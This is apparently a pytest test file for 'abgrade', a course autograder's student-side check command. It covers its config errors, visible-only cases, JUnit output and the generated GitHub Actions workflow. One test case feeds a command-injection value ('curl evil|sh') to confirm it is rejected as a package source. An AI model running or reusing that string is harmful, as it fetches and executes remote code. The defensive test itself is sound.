"""`abgrade check` in a course or student repository: the abgrade.yaml config (with
file:line errors), visible cases only (hidden and random ones never run or show), the
summary and exit codes, JUnit XML, and the GitHub Actions workflow, whose `abgrade` step is
run as written in a temporary course repository."""

from __future__ import annotations

import os
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest
import yaml

from grader.commands.common import UsageError
from grader.course.config import ConfigError, LabEntry, find_config, load_config, select_labs
from grader.course.student_build import MARKER
from grader.course.template_files import template_text
from grader.course.visible import check_lab
from grader.labs import get_lab
from grader.spec import load_spec

TREE_SUBMISSIONS = Path(__file__).resolve().parent / "fixtures" / "tree"
CORRECT = TREE_SUBMISSIONS / "correct_fail_hard.py"
STRICT_CUTOFF = TREE_SUBMISSIONS / "bug_strict_cutoff.py"
# bug_strict_cutoff fails these visible tests of specs/tree.yaml (and passes the other 33).
STRICT_CUTOFF_FAILURES = {
    "sibling-ties: nodes",
    "sibling-ties: pruned",
    "alpha-equals-beta: nodes",
    "alpha-equals-beta: pruned",
}

# A course spec with one visible and one hidden case, and random cases (after_published).
# The submission below prints every node it is called on, so its output shows which cases ran.
SPEC_WITH_HIDDEN = """\
lab: tree
checks:
  load: {points: 1}
  value: {points: 2}
  nodes: {points: 1}
  pruned: {points: 2}
  bounds: {points: 1}
  random: {points: 1, visibility: after_published}
  limits: {points: 1}
random: {count: 2, branching: [1, 3], depth: [2, 3], values: int, value_range: [-9, 9], tie_rate: 0.3}
cases:
  - name: shown
    graph: {shown_root: [shown_a, shown_b]}
    terminal_nodes: {shown_a: 3, shown_b: 5}
    expect: {value: 5, nodes: 3, pruned: []}
  - name: secret
    visibility: hidden
    graph: {secret_root: [secret_a]}
    terminal_nodes: {secret_a: 7}
    expect: {value: 7, nodes: 2, pruned: []}
"""
PRINTING = CORRECT.read_text().replace(
    "    if node in terminal_nodes:", "    print('visit', node)\n    if node in terminal_nodes:", 1
)


def abgrade(*args: object, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "grader", *map(str, args)], capture_output=True, text=True, cwd=cwd, timeout=120
    )


def course_repo(
    root: Path, config: str | None = "labs:\n  tree: labs/tree.py\n", submission: Path | str = CORRECT
) -> Path:
    """A course repository: labs/tree.py and, unless None, abgrade.yaml."""
    (root / "labs").mkdir(parents=True, exist_ok=True)
    text = submission.read_text() if isinstance(submission, Path) else submission
    (root / "labs" / "tree.py").write_text(text)
    if config is not None:
        (root / "abgrade.yaml").write_text(config)
    return root


def junit_cases(path: Path) -> dict[str, ET.Element]:
    root = ET.parse(path).getroot()
    return {case.get("name"): case for case in root.iter("testcase")}


# --- the config file -------------------------------------------------------------------------


def test_config_short_and_long_forms_resolve_paths_next_to_the_config(tmp_path: Path) -> None:
    config = tmp_path / "abgrade.yaml"
    config.write_text(
        "labs:\n  tree: labs/tree.ipynb\n  negamax:\n    submission: negamax.py\n    spec: specs/negamax.yaml\n"
    )
    assert load_config(config) == [
        LabEntry("tree", tmp_path / "labs" / "tree.ipynb"),
        LabEntry("negamax", tmp_path / "negamax.py", tmp_path / "specs" / "negamax.yaml"),
    ]


BAD_CONFIGS = [
    pytest.param("labs:\n  tree: a.py\n  tre: b.py\n", 3, "labs.tre: unknown lab; known labs:", id="unknown-lab"),
    pytest.param("labs:\n  tree: a.py\nlab: tree\n", 3, "lab: unknown field; expected labs", id="unknown-field"),
    pytest.param("# nothing yet\nlabs:\n", 2, "labs: must map each lab", id="empty-labs"),
    pytest.param("labs: [tree]\n", 1, "labs: must map each lab", id="labs-list"),
    pytest.param("labs:\n  tree:\n    spec: s.yaml\n", 3, "labs.tree.submission: missing", id="no-submission"),
    pytest.param(
        "labs:\n  tree:\n    submission: a.py\n    sepc: s.yaml\n",
        4,
        "labs.tree.sepc: unknown field; expected submission or spec",
        id="typo-in-field",
    ),
    pytest.param("labs:\n  tree: 3\n", 2, "labs.tree: must be the submission's path", id="number"),
    pytest.param("labs:\n  tree:\n    submission: [a.py]\n", 3, "labs.tree.submission: must be a path", id="list-path"),
    pytest.param("labs:\n  tree: a.py\n   negamax: b.py\n", 3, "yaml: invalid YAML", id="bad-indent"),
    pytest.param("- tree\n", 1, "config: must be a YAML mapping", id="not-a-mapping"),
]


@pytest.mark.parametrize("text, line, message", BAD_CONFIGS)
def test_config_mistakes_name_file_line_and_field(tmp_path: Path, text: str, line: int, message: str) -> None:
    config = tmp_path / "abgrade.yaml"
    config.write_text(text)
    with pytest.raises(ConfigError) as caught:
        load_config(config)
    assert str(caught.value).startswith(f"{config}:{line}: {message}"), str(caught.value)


def test_config_is_found_from_a_subfolder(tmp_path: Path) -> None:
    course_repo(tmp_path)
    (tmp_path / "labs" / "deeper").mkdir()
    assert find_config(tmp_path / "labs" / "deeper") == tmp_path / "abgrade.yaml"
    assert select_labs([], None, tmp_path / "labs") == [LabEntry("tree", tmp_path / "labs" / "tree.py")]


def test_arguments_name_files_or_pick_labs_from_the_config(tmp_path: Path) -> None:
    course_repo(tmp_path, "labs:\n  tree: labs/tree.py\n  negamax: n.py\n")
    elsewhere = tmp_path / "labs"
    assert select_labs(["tree=mine.py"], None, elsewhere) == [LabEntry("tree", elsewhere / "mine.py")]
    assert select_labs(["negamax"], None, tmp_path) == [LabEntry("negamax", tmp_path / "n.py")]
    with pytest.raises(UsageError, match="lab 'tictactoe' is not in abgrade.yaml"):
        select_labs(["tictactoe"], None, tmp_path)
    with pytest.raises(UsageError, match="given twice"):
        select_labs(["tree", "tree=x.py"], None, tmp_path)
    with pytest.raises(UsageError, match="unknown lab 'tre'"):
        select_labs(["tre=x.py"], None, tmp_path)


def test_without_arguments_or_config_the_user_is_told_what_to_write(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no abgrade.yaml in .* or name the labs as LAB=PATH"):
        select_labs([], None, tmp_path)
    assert select_labs(["tree=t.py"], None, tmp_path) == [LabEntry("tree", tmp_path / "t.py")]


# --- visible cases only ----------------------------------------------------------------------


def test_hidden_and_random_cases_never_run_on_the_students_side(tmp_path: Path) -> None:
    spec = tmp_path / "course-tree.yaml"
    spec.write_text(SPEC_WITH_HIDDEN)
    assert get_lab("tree").verify(load_spec(spec)) == []  # the stored expectations are right
    submission = tmp_path / "tree.py"
    submission.write_text(PRINTING)
    report = check_lab(LabEntry("tree", submission, spec))
    assert "visit shown_root" in report.student_output
    assert "secret" not in report.student_output  # the hidden case never ran
    assert "visit a0" not in report.student_output  # nor a random one (their roots are a0)
    assert {t.visibility for t in report.tests} == {"visible"}
    assert {t.case for t in report.tests} == {None, "shown"}
    assert report.score == report.max_score == 1 + 2 + 1 + 2 + 1 + 1


# --- the command -----------------------------------------------------------------------------


def test_check_passes_a_correct_submission_and_writes_junit(tmp_path: Path) -> None:
    repo = course_repo(tmp_path)
    done = abgrade("check", "--junit", "out/results.xml", cwd=repo)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "abgrade check: every visible check passes (1 lab)" in done.stdout
    assert "random" not in done.stdout and "hidden test" not in done.stdout
    cases = junit_cases(repo / "out" / "results.xml")
    assert len(cases) == 45 and not any("random" in name for name in cases)
    assert {case.get("classname") for case in cases.values()} == {"tree"}
    assert not any(case.find("failure") is not None for case in cases.values())


def test_check_fails_a_buggy_submission_with_abgrades_messages(tmp_path: Path) -> None:
    repo = course_repo(tmp_path, config=None, submission=STRICT_CUTOFF)
    done = abgrade("check", "tree=labs/tree.py", "--junit", "results.xml", cwd=repo)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "abgrade check: FAILED: tree (4 of 45 failed)" in done.stdout
    expected = {t.name: t.output for t in check_lab(LabEntry("tree", repo / "labs" / "tree.py")).tests}
    cases = junit_cases(repo / "results.xml")
    assert set(cases) == set(expected)
    failed = {name: case.find("failure") for name, case in cases.items() if case.find("failure") is not None}
    assert set(failed) == STRICT_CUTOFF_FAILURES
    firsts = {}  # the summary (short by default) shows the first failure of each kind in full
    for name in expected:
        if name in failed:
            firsts.setdefault(name.split(": ")[-1], name)
    for name, failure in failed.items():
        assert failure.get("message") == failure.text == expected[name]
        shown = expected[name].splitlines() if name in firsts.values() else expected[name].splitlines()[:1]
        assert all(line.strip()[:100] in done.stdout for line in shown)  # the summary too
    assert "Likely cause: You cut off only when alpha > beta" in failed["sibling-ties: pruned"].get("message")


def test_check_reports_config_mistakes_with_their_line(tmp_path: Path) -> None:
    repo = course_repo(tmp_path, "labs:\n  tree: labs/tree.py\n  tre: labs/tree.py\n")
    done = abgrade("check", cwd=repo)
    assert done.returncode == 2
    assert done.stderr.startswith("abgrade: ") and ":3: labs.tre: unknown lab" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    "path, reason",
    [
        ("labs/nothing.py", "no such file; give the path of your .py or .ipynb"),
        ("labs", "is a folder; give the path of your .py or .ipynb file in it"),
        ("labs/tree.txt", "not a .py or .ipynb file; give the path of your .py or .ipynb"),
    ],
    ids=["missing", "folder", "txt"],
)
def test_check_of_a_path_that_is_not_a_submission_is_a_usage_error(tmp_path: Path, path: str, reason: str) -> None:
    (tmp_path / "labs").mkdir()
    (tmp_path / "labs" / "tree.txt").write_text("")
    done = abgrade("check", f"tree={path}", "--junit", "r.xml", cwd=tmp_path)
    assert (done.returncode, done.stdout, done.stderr) == (2, "", f"abgrade: {path}: {reason}\n")
    assert not (tmp_path / "r.xml").exists()


def test_student_output_goes_to_system_out_in_valid_xml(tmp_path: Path) -> None:
    spec = tmp_path / "course-tree.yaml"
    spec.write_text(SPEC_WITH_HIDDEN)
    repo = course_repo(
        tmp_path,
        "labs:\n  tree: {submission: labs/tree.py, spec: course-tree.yaml}\n",
        PRINTING.replace("print('visit', node)", "print('visit', node, '\\x00\\x1b')"),
    )
    done = abgrade("check", "--junit", "r.xml", cwd=repo)
    assert done.returncode == 0, done.stdout + done.stderr
    system_out = ET.parse(repo / "r.xml").getroot().find("testsuite/system-out").text
    assert "visit shown_root" in system_out and "secret" not in system_out


def test_init_ci_writes_the_workflow_once(tmp_path: Path) -> None:
    done = abgrade("check", "--init-ci", cwd=tmp_path)
    workflow = tmp_path / ".github" / "workflows" / "abgrade-check.yml"
    assert done.returncode == 0 and workflow.read_text() == template_text("abgrade-check.yml")
    workflow.write_text("mine")
    assert abgrade("check", "--init-ci", cwd=tmp_path).returncode == 2
    assert workflow.read_text() == "mine"
    assert abgrade("check", "--init-ci", "--force", cwd=tmp_path).returncode == 0
    assert workflow.read_text() == template_text("abgrade-check.yml")


# --- the GitHub Actions workflow ---------------------------------------------------------------


def workflow_steps() -> list[dict]:
    workflow = yaml.safe_load(template_text("abgrade-check.yml"))
    (job,) = workflow["jobs"].values()
    return job["steps"]


def test_workflow_checks_out_sets_up_python_installs_checks_and_uploads() -> None:
    steps = workflow_steps()
    uses = [step.get("uses", "").split("@")[0] for step in steps]
    assert uses[:2] == ["actions/checkout", "actions/setup-python"]
    assert str(steps[1]["with"]["python-version"]) == "3.11"
    runs = [step.get("run", "") for step in steps]
    install = next(i for i, run in enumerate(runs) if "pip install" in run)
    check = next(i for i, run in enumerate(runs) if run.startswith("abgrade check"))
    upload = uses.index("actions/upload-artifact")
    assert 1 < install < check < upload
    assert "--junit results.xml" in runs[check]
    assert steps[upload]["with"]["path"] == "results.xml"
    assert "cancelled()" in steps[upload]["if"]  # uploaded when the check fails too


@pytest.mark.parametrize(
    "submission, code, failures", [(CORRECT, 0, 0), (STRICT_CUTOFF, 1, 4)], ids=["correct", "strict-cutoff"]
)
def test_workflow_check_step_runs_as_written(tmp_path: Path, submission: Path, code: int, failures: int) -> None:
    repo = course_repo(tmp_path, submission=submission)
    command = next(step["run"] for step in workflow_steps() if step.get("run", "").startswith("abgrade"))
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"}
    done = subprocess.run(["bash", "-e", "-c", command], cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == code, done.stdout + done.stderr
    suites = ET.parse(repo / "results.xml").getroot()
    assert suites.get("failures") == str(failures) and suites.get("tests") == "45"


# --- where the workflow gets abgrade from --------------------------------------------------------


def workflow_env(path: Path) -> dict:
    return yaml.safe_load(path.read_text())["env"]


def a_student_wheel(path: Path) -> Path:
    """A wheel marked as a student build, holding nothing a student wheel must not (the real
    one is built and installed in test_student_wheel.py)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as wheel:
        wheel.writestr(MARKER, "{}")
        wheel.writestr("grader/specs/tree.yaml", "lab: tree\ncases: []\n")
    return path


@pytest.mark.parametrize("package", ["./ci/abgrade-1.2.0+student-py3-none-any.whl", "vendor/abgrade-student.whl"])
def test_init_ci_writes_the_student_wheel_given(tmp_path: Path, package: str) -> None:
    a_student_wheel(tmp_path / package)
    done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert workflow_env(tmp_path / ".github" / "workflows" / "abgrade-check.yml") == {"ABGRADE_PACKAGE": package}


@pytest.mark.parametrize(
    "package, problem",
    [
        ("abgrade", "a name on the package index, which is not a source your course controls"),
        ("abgrade==1.2.0", "a name on the package index, which is not a source your course controls"),
        ("abgrade @ git+https://github.com/course/abgrade@v1.2.0", "the full abgrade, with the reference solutions"),
        ("https://example.edu/abgrade-1.0.0+student-py3-none-any.whl", "a wheel at a URL, which can't be checked"),
        ("./ci/missing.whl", "no such file here"),
        ("./ci/not-a-wheel.whl", "not a wheel"),
        ('x"; curl evil|sh; "', "not a pip requirement"),
    ],
    ids=["bare-name", "pinned-name", "git", "url", "missing", "not-a-wheel", "quotes"],
)
def test_init_ci_refuses_anything_but_the_student_wheel(tmp_path: Path, package: str, problem: str) -> None:
    (tmp_path / "ci").mkdir()
    (tmp_path / "ci" / "not-a-wheel.whl").write_text("hello")
    done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.startswith(f"abgrade: --package {package}: {problem}")
    assert "abgrade student-wheel -o ci" in done.stderr and len(done.stderr.splitlines()) == 1
    assert not (tmp_path / ".github").exists()


def test_init_ci_refuses_two_student_wheels_in_ci(tmp_path: Path) -> None:
    for version in ("1.0.0", "1.1.0"):
        a_student_wheel(tmp_path / "ci" / f"abgrade-{version}+student-py3-none-any.whl")
    done = abgrade("check", "--init-ci", cwd=tmp_path)
    assert done.returncode == 2 and "several student wheels in ci/" in done.stderr
    assert not (tmp_path / ".github").exists()


def test_the_workflow_as_generated_never_installs_from_the_package_index(tmp_path: Path) -> None:
    """Without --package, the install step stops with a message saying what to set."""
    env = workflow_env(Path(__file__).parent.parent / "grader" / "course" / "templates" / "abgrade-check.yml")
    assert env["ABGRADE_PACKAGE"].startswith("SET-ME")
    install = next(step["run"] for step in workflow_steps() if "pip install" in step.get("run", ""))
    fake_python = tmp_path / "python"
    fake_python.write_text("#!/bin/sh\necho pip was called\n")
    fake_python.chmod(0o755)
    done = subprocess.run(
        ["bash", "-e", "-c", install],
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, **env, "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}"},
    )
    assert done.returncode == 1 and "pip was called" not in done.stdout
    assert done.stdout.startswith("::error::ABGRADE_PACKAGE is not set: write where pip gets abgrade")
    ok = subprocess.run(
        ["bash", "-e", "-c", install],
        capture_output=True,
        text=True,
        timeout=30,
        env={
            **os.environ,
            "ABGRADE_PACKAGE": "./ci/abgrade-1.0.0+student-py3-none-any.whl",
            "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}",
        },
    )
    assert (ok.returncode, ok.stdout) == (0, "pip was called\n")
